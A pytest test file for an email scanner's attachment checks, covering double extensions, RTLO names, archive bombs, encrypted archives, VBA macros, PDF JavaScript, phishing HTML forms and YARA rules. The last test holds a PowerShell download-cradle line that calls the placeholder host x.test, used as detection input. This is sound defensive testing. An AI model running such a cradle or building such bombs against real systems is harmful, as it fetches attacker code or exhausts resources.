"""The attachments family on files the tests build: names, types, archives, bombs, macros,
PDFs, HTML, YARA and the recorded hashes."""

from __future__ import annotations

import hashlib
import time

import pytest

from mailmoat.errors import ConfigError
from mailmoat.scan.base import BuildContext
from mailmoat.scan.facts import AttachmentHash
from tests.attachments import fixtures as fx
from tests.attachments import vba_doc
from tests.conftest import make_config, make_email, scan_bytes, symbol_names


async def scan_files(*files: tuple[str, str, bytes], **settings: object):
    raw = make_email(subject="documents", attachments=list(files))
    return await scan_bytes(raw, make_config(attachments=dict(settings)))


def reason(outcome, name: str) -> str:
    sym = outcome.result.get(name)
    assert sym is not None, f"{name} not in {sorted(symbol_names(outcome))}"
    return sym.reason


# --- ordinary mail stays quiet ------------------------------------------------------------

async def test_ordinary_attachments_raise_nothing():
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06"
           b"\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00"
           b"\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
    out = await scan_files(("notes.txt", "text/plain", b"meeting at ten\n"),
                           ("logo.png", "image/png", png),
                           ("report.pdf", "application/pdf", fx.pdf_plain()),
                           ("letter.docx", "application/vnd.openxmlformats-officedocument."
                            "wordprocessingml.document", fx.docx_plain()),
                           ("docs.zip", "application/zip",
                            fx.zip_bytes({"a.txt": b"hello", "b.pdf": fx.pdf_plain()})))
    assert symbol_names(out) == set()
    assert out.verdict.action.value == "accept"


# --- names --------------------------------------------------------------------------------

async def test_dangerous_extension():
    out = await scan_files(("setup.exe", "application/octet-stream", fx.PE))
    assert "'setup.exe' is a .exe file" in reason(out, "ATTACH_DANGEROUS_EXT")


@pytest.mark.parametrize("filename", ["invoice.pdf.exe", "Scan_2024.JPG.js",
                                      "report.doc          .scr"])
async def test_double_extension(filename):
    out = await scan_files((filename, "application/octet-stream", b"payload"))
    assert out.result.has("ATTACH_DANGEROUS_EXT")
    assert filename in reason(out, "ATTACH_DOUBLE_EXT")


async def test_rtlo_filename_shows_the_displayed_name():
    name = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf"
    out = await scan_files((name, "application/pdf", fx.PE))
    assert 'displays as "invoiceexe.pdf"' in reason(out, "ATTACH_BIDI_NAME")
    assert out.result.has("ATTACH_DANGEROUS_EXT")


# --- types --------------------------------------------------------------------------------

async def test_executable_declared_as_pdf():
    out = await scan_files(("statement.pdf", "application/pdf", fx.PE))
    r = reason(out, "ATTACH_HIDDEN_EXECUTABLE")
    assert "'statement.pdf' is a program" in r and "application/pdf" in r
    assert out.verdict.action.value in ("tag", "quarantine", "reject")


async def test_declared_type_mismatch():
    out = await scan_files(("photo.jpg", "image/jpeg", fx.pdf_plain()))
    r = reason(out, "ATTACH_TYPE_MISMATCH")
    assert "declared as image/jpeg" in r and "application/pdf" in r


# --- archives -----------------------------------------------------------------------------

async def test_eicar_zip_in_zip_is_found_inside():
    inner = fx.zip_bytes({"eicar.com": fx.EICAR})
    outer = fx.zip_bytes({"eicar_com.zip": inner})
    out = await scan_files(("eicarcom2.zip", "application/zip", outer))
    assert "eicarcom2.zip > eicar_com.zip holds 'eicar.com'" in reason(out, "ARCHIVE_EXECUTABLE")
    assert "EICAR_Test_File" in reason(out, "YARA_MATCH")
    hashes = out.result.facts.attachments
    leaf = [h for h in hashes if h.filename == "eicar.com"]
    assert leaf == [AttachmentHash(filename="eicar.com",
                                   sha256=hashlib.sha256(fx.EICAR).hexdigest(), size=68,
                                   type=leaf[0].type, container="eicarcom2.zip > eicar_com.zip")]
    assert [h.filename for h in hashes] == ["eicarcom2.zip", "eicar_com.zip", "eicar.com"]


async def test_program_with_harmless_name_inside_archive():
    out = await scan_files(("photos.zip", "application/zip",
                            fx.zip_bytes({"holiday.jpg": fx.PE})))
    assert "photos.zip holds 'holiday.jpg', which is a program" in reason(out, "ARCHIVE_EXECUTABLE")


@pytest.mark.parametrize("name,data", [
    ("bundle.tar.gz", lambda: fx.tar_bytes({"run.vbs": b"WScript.Echo 1"}, "w:gz")),
    ("bundle.tar.bz2", lambda: fx.tar_bytes({"run.vbs": b"WScript.Echo 1"}, "w:bz2")),
    ("bundle.tar.xz", lambda: fx.tar_bytes({"run.vbs": b"WScript.Echo 1"}, "w:xz")),
    ("bundle.7z", lambda: fx.seven_zip({"run.vbs": b"WScript.Echo 1"})),
])
async def test_other_archive_formats_are_opened(name, data):
    out = await scan_files((name, "application/octet-stream", data()))
    assert "'run.vbs', a .vbs file" in reason(out, "ARCHIVE_EXECUTABLE")


async def test_zip_bomb_is_caught_not_expanded():
    bomb = fx.zip_bomb()
    started = time.perf_counter()
    out = await scan_files(("backup.zip", "application/zip", bomb))
    elapsed = time.perf_counter() - started
    r = reason(out, "ARCHIVE_BOMB")
    assert "backup.zip > data.bin expands more than 100 times" in r
    assert out.result.get("ARCHIVE_BOMB").options == ("backup.zip",)
    assert elapsed < 5  # stopped after ~100x the packed size, not 32 MB later
    assert out.verdict.action.value in ("quarantine", "reject")


async def test_gzip_bomb_is_caught():
    out = await scan_files(("log.gz", "application/gzip", fx.gzip_bomb()))
    assert "log.gz expands more than" in reason(out, "ARCHIVE_BOMB")


async def test_total_size_and_file_count_limits():
    many = fx.zip_bytes({f"f{i}.txt": b"x" for i in range(30)})
    out = await scan_files(("many.zip", "application/zip", many), archive_max_files=20)
    assert "more than 20 files" in reason(out, "ARCHIVE_BOMB")
    big = fx.zip_bytes({"a.bin": bytes(range(256)) * 4096 * 2})  # 2 MB, barely compressible
    out = await scan_files(("big.zip", "application/zip", big), archive_max_total_mb=1)
    assert "more than 1 MB uncompressed" in reason(out, "ARCHIVE_BOMB")


async def test_nesting_beyond_the_depth_limit():
    out = await scan_files(("deep.zip", "application/zip", fx.nested_zip(8)))
    assert "nested deeper than 5" in reason(out, "ARCHIVE_TOO_DEEP")
    ok = await scan_files(("deep.zip", "application/zip", fx.nested_zip(4)))
    assert not ok.result.has("ARCHIVE_TOO_DEEP")


async def test_encrypted_zip_and_7z():
    out = await scan_files(("invoice.zip", "application/zip",
                            fx.encrypted_zip({"invoice.pdf": fx.pdf_plain()})))
    assert "invoice.zip is password-protected" in reason(out, "ARCHIVE_ENCRYPTED")
    out = await scan_files(("a.7z", "application/x-7z-compressed",
                            fx.seven_zip({"a.txt": b"x"}, password="pw")))
    assert out.result.has("ARCHIVE_ENCRYPTED")
    out = await scan_files(("b.7z", "application/x-7z-compressed",
                            fx.seven_zip({"a.txt": b"x"}, password="pw", header_encryption=True)))
    assert "b.7z is password-protected" in reason(out, "ARCHIVE_ENCRYPTED")


async def test_encrypted_archive_with_the_password_in_the_text():
    data = fx.encrypted_zip({"invoice.pdf": fx.pdf_plain()})
    raw = make_email(body="Please find the invoice attached.\nPassword: 4471\n",
                     attachments=[("invoice.zip", "application/zip", data)])
    out = await scan_bytes(raw, make_config())
    r = reason(out, "ARCHIVE_ENCRYPTED")
    assert "message text gives the password ('Password: 4471')" in r
    assert out.result.get("ARCHIVE_ENCRYPTED").score == 6.0


async def test_encrypted_zip_without_the_zip_binary(monkeypatch):
    # The fixture's fallback (flag bit set by hand) must be judged the same as `zip -P`.
    monkeypatch.setattr(fx.shutil, "which", lambda name: None)
    data = fx.encrypted_zip({"invoice.pdf": fx.pdf_plain()})
    out = await scan_files(("invoice.zip", "application/zip", data))
    assert "invoice.zip is password-protected" in reason(out, "ARCHIVE_ENCRYPTED")


async def test_corrupt_archive_is_unreadable_not_a_crash():
    broken = fx.zip_bytes({"a.txt": b"hello" * 100})[:60]
    out = await scan_files(("broken.zip", "application/zip", broken))
    assert "broken.zip" in reason(out, "ARCHIVE_UNREADABLE")
    assert not out.result.has("ATTACHMENTS_FAIL")


# --- Office -------------------------------------------------------------------------------

async def test_macro_source_is_analysed_by_olevba():
    out = await scan_files(("ThisDocument.bas", "text/plain", fx.MACRO_VBA))
    assert out.result.has("OFFICE_MACRO")
    assert "AutoOpen" in reason(out, "OFFICE_MACRO_AUTOEXEC")
    r = reason(out, "OFFICE_MACRO_SUSPICIOUS")
    assert "Shell" in r and "CreateObject" in r
    assert "Script_Download_Cradle" in reason(out, "YARA_MATCH")


@pytest.mark.parametrize("filename,mime,build", [
    ("Invoice.doc", "application/msword", lambda m: vba_doc.vba_project(m)),
    ("Invoice.docm", "application/vnd.ms-word.document.macroEnabled.12",
     lambda m: vba_doc.docm(m)),
])
async def test_macro_documents_ole_and_ooxml(filename, mime, build):
    # Real compound files with a VBA project (tests/attachments/vba_doc.py), read by olevba
    # through its OLE and OpenXML paths, decompressing the MS-OVBA module streams.
    data = build({"ThisDocument": fx.MACRO_VBA.decode(), "Module1": fx.BENIGN_VBA.decode()})
    out = await scan_files((filename, mime, data))
    assert f"{filename!r} contains VBA macros" in reason(out, "OFFICE_MACRO")
    assert "AutoOpen" in reason(out, "OFFICE_MACRO_AUTOEXEC")
    assert "WScript.Shell" in reason(out, "OFFICE_MACRO_SUSPICIOUS")
    assert not out.result.has("ATTACH_TYPE_MISMATCH")
    assert not out.result.has("OFFICE_ENCRYPTED")


async def test_macro_document_inside_a_zip():
    data = fx.zip_bytes({"Order.docm": vba_doc.docm({"ThisDocument": fx.MACRO_VBA.decode()})})
    out = await scan_files(("order.zip", "application/zip", data))
    r = reason(out, "OFFICE_MACRO_AUTOEXEC")
    assert "macros in 'Order.docm' (inside order.zip) run automatically (AutoOpen)" in r


async def test_document_without_macros_is_not_flagged():
    out = await scan_files(("letter.docx", "application/vnd.openxmlformats-officedocument."
                            "wordprocessingml.document", fx.docx_plain()))
    assert not any(n.startswith("OFFICE_") for n in symbol_names(out))


def test_keyword_tables_match_olevba_own_detection():
    from oletools import olevba

    from mailmoat.scan.attachments import _find_keywords, _keyword_patterns

    code = fx.MACRO_VBA.decode() + "\nPrivate Sub Workbook_Open()\nx = Chr(65) & Environ(1)\n"
    auto, susp, plain = _keyword_patterns()
    assert set(_find_keywords(code, auto, ())) == {k for k, _ in olevba.detect_autoexec(code)}
    assert set(_find_keywords(code, susp, plain)) == {k for k, _ in olevba.detect_suspicious(code)}


async def test_benign_macro_is_only_a_macro():
    out = await scan_files(("Module1.bas", "text/plain", fx.BENIGN_VBA))
    assert out.result.has("OFFICE_MACRO")
    assert not out.result.has("OFFICE_MACRO_AUTOEXEC")
    assert not out.result.has("OFFICE_MACRO_SUSPICIOUS")


async def test_encrypted_office_document():
    pytest.importorskip("msoffcrypto", reason="msoffcrypto-tool builds the encrypted fixture")
    out = await scan_files(("salary.docx", "application/vnd.openxmlformats-officedocument."
                            "wordprocessingml.document", fx.docx_encrypted()))
    assert "'salary.docx' is password-encrypted" in reason(out, "OFFICE_ENCRYPTED")
    assert not out.result.has("ATTACH_TYPE_MISMATCH")


# --- PDF ----------------------------------------------------------------------------------

async def test_pdf_open_action_javascript():
    out = await scan_files(("form.pdf", "application/pdf", fx.pdf_open_action_js()))
    assert out.result.has("PDF_JAVASCRIPT")
    assert "runs JavaScript when opened" in reason(out, "PDF_AUTO_JAVASCRIPT")
    assert not out.result.has("PDF_LAUNCH")


async def test_pdf_javascript_hidden_in_compressed_object_stream():
    out = await scan_files(("scan.pdf", "application/pdf", fx.pdf_hidden_in_object_stream()))
    assert out.result.has("PDF_JAVASCRIPT")
    assert out.result.has("PDF_AUTO_JAVASCRIPT")
    assert out.result.has("PDF_EMBEDDED_FILE")


async def test_files_embedded_in_a_pdf_get_the_same_checks():
    doc = fx.pdf_with_attachment(b"invoice.pdf.exe", fx.PE)
    out = await scan_files(("statement.pdf", "application/pdf", doc))
    assert out.result.has("PDF_EMBEDDED_FILE")
    assert "statement.pdf holds 'invoice.pdf.exe', a .exe file" in reason(out, "ARCHIVE_EXECUTABLE")
    assert "'invoice.pdf.exe' (inside statement.pdf) looks like a .pdf file" in reason(
        out, "ATTACH_DOUBLE_EXT")
    hashes = out.result.facts.attachments
    assert hashes[1] == AttachmentHash(filename="invoice.pdf.exe",
                                       sha256=hashlib.sha256(fx.PE).hexdigest(), size=len(fx.PE),
                                       type="application/x-dosexec", container="statement.pdf")
    # an archive inside a PDF is opened too
    doc = fx.pdf_with_attachment(b"tools.zip", fx.zip_bytes({"run.js": b"WScript.Echo(1)"}))
    out = await scan_files(("report.pdf", "application/pdf", doc))
    assert "report.pdf > tools.zip holds 'run.js'" in reason(out, "ARCHIVE_EXECUTABLE")


async def test_pdf_launch_action():
    out = await scan_files(("doc.pdf", "application/pdf", fx.pdf_launch()))
    assert "/Launch" in reason(out, "PDF_LAUNCH")


# --- HTML ---------------------------------------------------------------------------------

async def test_html_credential_form():
    out = await scan_files(("Secure_Message.html", "text/html", fx.PHISH_HTML))
    assert "form asking for a password" in reason(out, "ATTACH_HTML_FORM")
    assert out.result.get("ATTACH_HTML_FORM").score == 6.0  # 4 x 1.5 for the password field
    assert not out.result.has("ATTACH_HTML_SCRIPT")


async def test_newsletter_form_is_not_flagged_but_login_fields_are():
    search = b'<html><body><form action="/search"><input name="q"><input type=submit></form>'
    out = await scan_files(("weather.htm", "text/html", search))
    assert not out.result.has("ATTACH_HTML_FORM")
    login = search.replace(b'name="q"', b'name="user_email"')
    out = await scan_files(("weather.htm", "text/html", login))
    assert "asking for 'user_email'" in reason(out, "ATTACH_HTML_FORM")
    assert out.result.get("ATTACH_HTML_FORM").score == 4.0


async def test_web_page_dressed_as_a_document():
    out = await scan_files(("PO45638 - PO76483.Xls.htm", "text/html", fx.PHISH_HTML))
    assert "looks like a .xls file but is a web page (.htm)" in reason(out, "ATTACH_DOUBLE_EXT")
    assert out.result.get("ATTACH_DOUBLE_EXT").score == 3.0
    assert not out.result.has("ATTACH_DANGEROUS_EXT")


async def test_sloppy_text_types_are_not_a_mismatch():
    out = await scan_files(("fix.patch", "application/x-patch", b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n"),
                           ("notes", "video/mng", b"plain words here\n"),
                           ("conf.yml", "application/x-yaml", b"key: value\n"))
    assert not out.result.has("ATTACH_TYPE_MISMATCH")


async def test_html_script_and_smuggling_rule():
    out = await scan_files(("invoice.htm", "text/html", fx.SCRIPT_HTML))
    assert out.result.has("ATTACH_HTML_SCRIPT")
    assert "HTML_Smuggling" in reason(out, "YARA_MATCH")


# --- YARA configuration -------------------------------------------------------------------

async def test_yara_rules_from_a_directory(tmp_path):
    (tmp_path / "corp.yar").write_text(
        'rule Corp_Secret_Marker { strings: $a = "PROJECT-NIGHTJAR" condition: $a }\n')
    raw = make_email(attachments=[("plan.txt", "text/plain", b"about PROJECT-NIGHTJAR")])
    cfg = make_config(attachments={"yara_dir": str(tmp_path), "builtin_yara": False})
    out = await scan_bytes(raw, cfg)
    assert "Corp_Secret_Marker" in reason(out, "YARA_MATCH")


def test_broken_yara_rule_is_a_config_error(tmp_path):
    from mailmoat.scan.attachments import build

    (tmp_path / "bad.yar").write_text("rule Broken { condition: $nope }\n")
    with pytest.raises(ConfigError, match="bad.yar"):
        build(BuildContext(config=make_config(attachments={"yara_dir": str(tmp_path)})))
    with pytest.raises(ConfigError, match="not a folder"):
        build(BuildContext(config=make_config(attachments={"yara_dir": str(tmp_path / "x")})))


def test_disabled_family_builds_nothing():
    from mailmoat.scan.attachments import build

    assert build(BuildContext(config=make_config(attachments={"enabled": False}))) == []


async def test_7z_bomb_is_caught():
    bomb = fx.seven_zip({"zeros.bin": bytes(8 * 1024 * 1024)})
    assert len(bomb) < 10_000
    out = await scan_files(("archive.7z", "application/x-7z-compressed", bomb))
    assert "archive.7z expands more than 100 times" in reason(out, "ARCHIVE_BOMB")


def test_walker_reads_bounded_and_never_trusts_declared_sizes():
    from mailmoat.scan.archives import ArchiveLimits, walk

    bomb = fx.zip_bomb()
    limits = ArchiveLimits()
    report = walk("x.zip", bomb, limits)
    assert report.bombs and not report.members  # nothing half-expanded is handed on
    # A member whose central directory claims 2 GB: reading stops at the real data.
    lying = bytearray(fx.zip_bytes({"a.txt": b"A" * 1000}, method=0))
    cd = lying.find(b"PK\x01\x02")
    lying[cd + 24:cd + 28] = (0x7FFFFFFF).to_bytes(4, "little")
    report = walk("y.zip", bytes(lying), limits)
    assert all(len(m.data) <= 1000 for m in report.members)
    assert report.members or report.unreadable


def test_truncated_and_corrupted_files_never_break_the_check():
    """Hostile input is normal input: every cut and bit-flip of the fixtures is judged
    without an exception (which would turn into ATTACHMENTS_FAIL and lose the verdict)."""
    import random

    from mailmoat.message.parse import parse_message
    from mailmoat.scan.attachments import build

    check = build(BuildContext(config=make_config()))[0]
    rnd = random.Random(1234)
    samples = {
        "a.zip": fx.zip_bytes({"x.exe": fx.PE, "in.zip": fx.zip_bytes({"y.js": b"1"})}),
        "b.7z": fx.seven_zip({"x.txt": b"hello" * 50}),
        "c.tar.gz": fx.tar_bytes({"r.vbs": b"x" * 300}),
        "d.pdf": fx.pdf_hidden_in_object_stream(),
        "e.doc": fx.docx_encrypted() if _has_msoffcrypto() else fx.PE,
        "f.bas": fx.MACRO_VBA,
    }
    for name, data in samples.items():
        variants = [data[:n] for n in sorted({1, 4, 30, len(data) // 3, len(data) // 2,
                                              len(data) - 5})]
        for _ in range(6):
            b = bytearray(data)
            for _ in range(4):
                b[rnd.randrange(len(b))] = rnd.randrange(256)
            variants.append(bytes(b))
        for v in variants:
            msg = parse_message(make_email(attachments=[(name, "application/octet-stream", v)]))
            findings = check.analyze(msg)  # must not raise
            assert findings.hashes[0].sha256 == hashlib.sha256(v).hexdigest()


def _has_msoffcrypto() -> bool:
    try:
        import msoffcrypto  # noqa: F401
    except ImportError:
        return False
    return True


async def test_rar_is_recognised_and_encryption_read_from_headers():
    # RAR 4 main header with MHD_PASSWORD (0x0080), RAR 5 with an encryption header first.
    rar4 = b"Rar!\x1a\x07\x00" + b"\x00\x00" + b"\x73" + (0x0080).to_bytes(2, "little") + bytes(20)
    rar5 = b"Rar!\x1a\x07\x01\x00" + b"\x00\x00\x00\x00" + b"\x0c" + b"\x04" + bytes(20)
    plain5 = b"Rar!\x1a\x07\x01\x00" + b"\x00\x00\x00\x00" + b"\x0c" + b"\x01" + bytes(20)
    out = await scan_files(("a.rar", "application/vnd.rar", rar4),
                           ("b.rar", "application/vnd.rar", rar5),
                           ("c.rar", "application/vnd.rar", plain5))
    assert out.result.get("ARCHIVE_ENCRYPTED").options == ("a.rar", "b.rar")
    assert "no unrar backend" in reason(out, "ARCHIVE_UNREADABLE")
    assert set(out.result.get("ARCHIVE_UNREADABLE").options) == {"a.rar", "b.rar", "c.rar"}


def test_costly_steps_are_budgeted_per_message():
    """1,000 small members must not each take the most expensive path."""
    from mailmoat.message.parse import parse_message
    from mailmoat.scan.attachments import build

    check = build(BuildContext(config=make_config()))[0]
    members = {f"m{i}.bas": fx.BENIGN_VBA for i in range(40)}
    members.update({f"b{i}.dat": bytes([i, 0, 1, 2]) * 200 for i in range(150)})
    msg = parse_message(make_email(attachments=[("many.zip", "application/zip",
                                                 fx.zip_bytes(members))]))
    started = time.perf_counter()
    findings = check.analyze(msg)
    elapsed = time.perf_counter() - started
    assert len(findings.hashes) == 191  # every file is still hashed
    assert findings.macro_left == 0 and findings.magic_left == 0
    assert len(findings.hits["OFFICE_MACRO"]) == 20
    assert elapsed < 10


def test_structured_suffix_types_are_their_base_format():
    """RFC 6839: application/tlsrpt+gzip (an SMTP TLS report, RFC 8460) is a gzip file, so
    its gzip content is no type mismatch."""
    from mailmoat.scan.attachments import type_family

    assert type_family("application/tlsrpt+gzip") == type_family("application/gzip") == "gzip"
    assert type_family("application/epub+zip") == "zip"


async def test_eicar_as_a_text_file_is_quarantined_whatever_the_score():
    """A YARA rule that gives a verdict (the built-in EICAR rule: `verdict = "malware"`) holds
    the message even when everything else says ham; heuristic rules only add score."""
    out = await scan_files(("eicar.txt", "text/plain", fx.EICAR))
    assert out.verdict.action.value == "quarantine" and out.verdict.category.value == "malware"
    assert "is malware (YARA rule EICAR_Test_File)" in out.verdict.reason
    cradle = b"powershell -c (New-Object Net.WebClient).DownloadString('http://x.test/a')"
    out = await scan_files(("setup.txt", "text/plain", cradle))
    assert out.result.has("YARA_MATCH") and out.result.forced is None
